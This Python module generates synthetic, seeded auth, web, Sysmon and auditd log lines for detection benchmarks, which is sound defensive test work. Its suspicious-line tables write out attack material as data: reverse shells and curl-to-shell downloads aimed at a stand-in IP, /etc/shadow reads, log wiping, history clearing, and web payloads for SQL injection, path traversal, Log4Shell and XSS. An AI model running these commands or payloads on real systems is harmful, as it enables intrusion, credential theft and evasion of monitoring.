# ruff: noqa: E501  # lines of logs
"""Made-up logs for benchmarks: the same bytes for the same seed, most lines ordinary, a chosen share suspicious."""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from typing import Any

HOSTS = ("web01", "web02", "db01", "mail", "build-7")
USERS = ("alice", "bob", "carol", "deploy", "www-data", "postgres", "backup", "nobody")
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Version/17.4 Safari/604.1",
    "kube-probe/1.29",
)
PATHS = ("/", "/index.html", "/api/v1/users/{n}", "/static/app.{n}.js", "/img/p/{n}.webp", "/cart/add?sku={n}&qty=1",
         "/search?q=red+shoes&page={n}", "/api/v1/search?term=caf%C3%A9%20{n}", "/health", "/blog/2026/03/post-{n}")  # fmt: skip
ATTACKS = ("/index.php?id=1%27%20UNION%20SELECT%201,2,@@version--", "/../../../../etc/passwd", "/.git/config",
           "/?x=${jndi:ldap://evil.example/a}", "/shell.php?cmd=whoami", "/search?q=<script>alert(1)</script>",
           "/api?file=../../../etc/shadow", "/?id=1+and+sleep(5)--")  # fmt: skip
COMMANDS = (
    ("/usr/bin/ls", "ls --color=auto -la /srv/app"), ("/usr/bin/grep", "grep -r foo /srv/app/src"),
    ("/usr/bin/python3.11", "/usr/bin/python3.11 /srv/app/manage.py worker {n}"), ("/usr/bin/ps", "ps aux"),
    ("/usr/sbin/nginx", "nginx: worker process"), ("/usr/bin/sed", "sed -e s/a/b/ -i /srv/app/conf/{n}.ini"),
    ("/usr/bin/date", "date +%s"), ("/usr/bin/node", "node /srv/app/server.js --port={n}"),
    ("/usr/bin/tar", "tar czf /backup/{n}.tgz /srv/app"), ("/usr/bin/git", "git pull --rebase"),
    ("/usr/lib/postgresql/15/bin/postgres", "postgres: app app 10.2.3.4({n}) SELECT"),
    ("/usr/sbin/cron", "/usr/sbin/cron -f -P"), ("/usr/bin/awk", "awk {print $2} /srv/app/list.{n}"),
)  # fmt: skip
BAD_COMMANDS = (
    ("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), ("/usr/bin/curl", "curl -s http://198.51.100.9/x.sh | sh"),
    ("/usr/bin/cat", "cat /etc/shadow"), ("/usr/bin/base64", "base64 -d /tmp/.x"), ("/usr/bin/crontab", "crontab -e /tmp/c"),
    ("/usr/bin/chmod", "chmod u+s /tmp/.hidden/bash"), ("/usr/bin/rm", "rm -rf /var/log/auth.log"), ("/usr/sbin/iptables", "iptables -F"),
    ("/usr/bin/nc", "nc -e /bin/sh 198.51.100.9 4444"), ("/usr/bin/wget", "wget -q http://198.51.100.9/miner -O /tmp/miner"),
    ("/usr/sbin/setenforce", "setenforce 0"), ("/usr/bin/python3.11", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"),
    ("/usr/bin/perl", 'perl -e use Socket;$i="198.51.100.9"'), ("/usr/bin/history", "history -c"),
)  # fmt: skip
PARENTS = (
    ("/usr/lib/systemd/systemd", "/sbin/init"), ("/usr/bin/dash", "sh -c run-parts"), ("/usr/sbin/cron", "/usr/sbin/cron -f"),
    ("/usr/bin/containerd-shim", "containerd-shim -namespace moby"),
)  # fmt: skip
SUCCESS = {"arch": "c000003e", "success": "yes", "exit": 0, "items": 2}


def _audit_value(text: str) -> str:
    """As the kernel writes it: in hex where it holds what ends a value."""
    return text.encode().hex().upper() if {'"', " "} & set(text) else f'"{text}"'


class Maker:
    """Lines of one kind: `auth`, `web`, `json` or `audit`."""

    def __init__(self, kind: str, share: float, seed: int = 1) -> None:
        self._draw = random.Random(f"{kind} {share} {seed}")
        self._make = {"auth": self._auth, "web": self._web, "json": self._json, "audit": self._audit}[kind]
        self._share = share
        self._at = datetime(2026, 3, 1, tzinfo=UTC)
        self._serial = 0

    def lines(self, size_bytes: int) -> bytes:
        """About so many bytes."""
        made: list[str] = []
        size = 0
        while size < size_bytes:
            self._at += timedelta(milliseconds=self._draw.randrange(50))
            line = self._make(suspicious=self._draw.random() < self._share)
            made.append(line)
            size += len(line) + 1
        return ("\n".join(made) + "\n").encode()

    def _address(self, inside: str = "10") -> str:
        return inside + "".join(f".{self._draw.randrange(1, 255)}" for _ in range(3))

    def _auth(self, *, suspicious: bool) -> str:
        draw, number = self._draw, self._draw.randrange(1, 65_535)
        head = f"{self._at:%b} {self._at.day:2} {self._at:%H:%M:%S} {draw.choice(HOSTS)} "
        user = draw.choice(USERS)
        if suspicious:
            return head + draw.choice((  # one in ten is a match of SigmaHQ's keyword rules
                *[f"sshd[{number}]: Failed password for root from {self._address('203')} port {number} ssh2"] * 2,
                *[f"sshd[{number}]: Failed password for invalid user oracle from {self._address('203')} port {number} ssh2"] * 4,
                f"sshd[{number}]: error: maximum authentication attempts exceeded for root from {self._address('203')} port {number} ssh2 [preauth]",
                f"su[{number}]: pam_unix(su:auth): authentication failure; logname={user} uid=1000 euid=0 tty=/dev/pts/2 ruser={user} rhost=  user=root",
                f"sudo:   {user} : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/cat /etc/shadow",
                f"sudo:   {user} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.9/44 0>&1",
            ))  # fmt: skip
        return head + draw.choice((
            f"sshd[{number}]: Accepted publickey for {user} from {self._address()} port {number} ssh2: ED25519 SHA256:{number:043x}",
            f"sshd[{number}]: pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)",
            f"CRON[{number}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
            f"systemd-logind[612]: New session {number} of user {user}.",
            f"kernel: [{number}.25] [UFW BLOCK] IN=eth0 SRC={self._address('198')} DST={self._address()} LEN=60 PROTO=TCP SPT={number} DPT=22",
            f"sshd[{number}]: Received disconnect from {self._address()} port {number}:11: disconnected by user",
        ))  # fmt: skip

    def _web(self, *, suspicious: bool) -> str:
        draw = self._draw
        target = (
            draw.choice(ATTACKS if suspicious else PATHS).format_map({"n": draw.randrange(99_999)})
            if not suspicious
            else draw.choice(ATTACKS)
        )
        return (
            f'{self._address("203")} - - [{self._at:%d/%b/%Y:%H:%M:%S} +0000] "GET {target} HTTP/1.1" {draw.choice((200, 200, 200, 304, 404))}'
            f' {draw.randrange(90_000)} "-" "{draw.choice(AGENTS)}"'
        )

    def _json(self, *, suspicious: bool) -> str:
        """Sysmon for Linux (six in ten), auditd EXECVE and SYSCALL; 0.55 kB, with the fields that name a log source."""
        draw, number = self._draw, self._draw.randrange(300, 4_000_000)
        image, command = draw.choice(BAD_COMMANDS if suspicious else COMMANDS)
        command = command.replace("{n}", str(number))
        at = f"{self._at:%Y-%m-%dT%H:%M:%S.%f}"[:-3] + "Z"
        record: dict[str, Any] = {"timestamp": at, "host": draw.choice(HOSTS), "product": "linux"}
        kind = draw.randrange(10)
        if kind < 6:
            record |= {"category": "process_creation"} | self._sysmon(number, at, image, command)
        elif kind < 8:
            words = command.split(" ")[:8]
            record |= {
                "service": "auditd",
                "type": "EXECVE",
                "msg": f"audit({number}.001:{number})",
                "argc": len(words),
            }
            record |= {f"a{place}": word for place, word in enumerate(words)}
        else:
            record |= {"service": "auditd", "type": "SYSCALL"} | SUCCESS
            record |= {
                "syscall": draw.choice(("execve", "openat", "connect", "close")),
                "ppid": number // 2,
                "pid": number,
            }
            record |= {"a0": f"{draw.getrandbits(48):x}", "a1": f"{draw.getrandbits(48):x}"}
            record |= dict.fromkeys(("auid", "uid", "gid", "euid", "suid", "fsuid"), number % 1_100)
            record |= {"tty": "pts0", "ses": number % 9_999, "comm": image.rpartition("/")[2], "exe": image}
            record |= {"key": draw.choice(("(null)", "rootcmd", "exec"))}
        return json.dumps(record, separators=(",", ":"))

    def _audit(self, *, suspicious: bool) -> str:
        """A command started, as the kernel writes it: five lines; two events in ten are log-ins of one line."""
        draw, number = self._draw, self._draw.randrange(300, 4_000_000)
        self._serial += 1
        head = f"msg=audit({self._at.timestamp():.3f}:{self._serial}):"
        if draw.randrange(10) < 2:
            return (
                f'type=USER_LOGIN {head} pid={number} uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct="{draw.choice(USERS)}" '
                f'exe="/usr/sbin/sshd" hostname=? addr={self._address()} terminal=sshd res={draw.choice(("success", "failed"))}\''
            )
        image, command = draw.choice(BAD_COMMANDS if suspicious else COMMANDS)
        words = command.replace("{n}", str(number)).split(" ")
        registers = " ".join(f"a{place}={draw.getrandbits(48):x}" for place in range(4))
        owner = " ".join(
            f"{name}={number % 1_100}"
            for name in ("auid", "uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid")
        )
        who = (
            f'tty=pts0 ses={number % 9_999} comm="{image.rpartition("/")[2]}" exe="{image}" subj=unconfined key="exec"'
        )
        return "\n".join((
            f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 {registers} items=2 ppid={number // 2} pid={number} {owner} {who}",
            f"type=EXECVE {head} argc={len(words)} " + " ".join(f"a{place}={_audit_value(word)}" for place, word in enumerate(words)),
            f'type=CWD {head} cwd="/srv/app"',
            f'type=PATH {head} item=0 name="{image}" inode={number} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
            f"type=PROCTITLE {head} proctitle={chr(0).join(words).encode().hex().upper()}",
        ))  # fmt: skip

    def _sysmon(self, number: int, at: str, image: str, command: str) -> dict[str, Any]:
        """Event 1, process creation, as Sysmon for Linux names its fields."""
        draw = self._draw
        user, (parent_image, parent_command) = draw.choice(USERS), draw.choice(PARENTS)
        nothing = dict.fromkeys(("FileVersion", "Description", "Product", "Company", "OriginalFileName"), "-")
        return {
            "Provider_Name": "Linux-Sysmon", "EventID": 1, "RuleName": "-", "UtcTime": at,
            "ProcessGuid": f"{{{number:08x}-3f2a-65e1-{draw.getrandbits(16):04x}-{draw.getrandbits(48):012x}}}", "ProcessId": number,
            "Image": image, **nothing, "CommandLine": command, "CurrentDirectory": draw.choice(("/", "/srv/app", f"/home/{user}")),
            "User": user, "LogonGuid": f"{{{draw.getrandbits(32):08x}-0000-0000-0000-000000000000}}", "LogonId": number % 99_999,
            "TerminalSessionId": number % 9_999, "IntegrityLevel": "no level", "Hashes": "-", "ParentProcessId": number // 2,
            "ParentImage": parent_image, "ParentCommandLine": parent_command, "ParentUser": "root",
        }  # fmt: skip
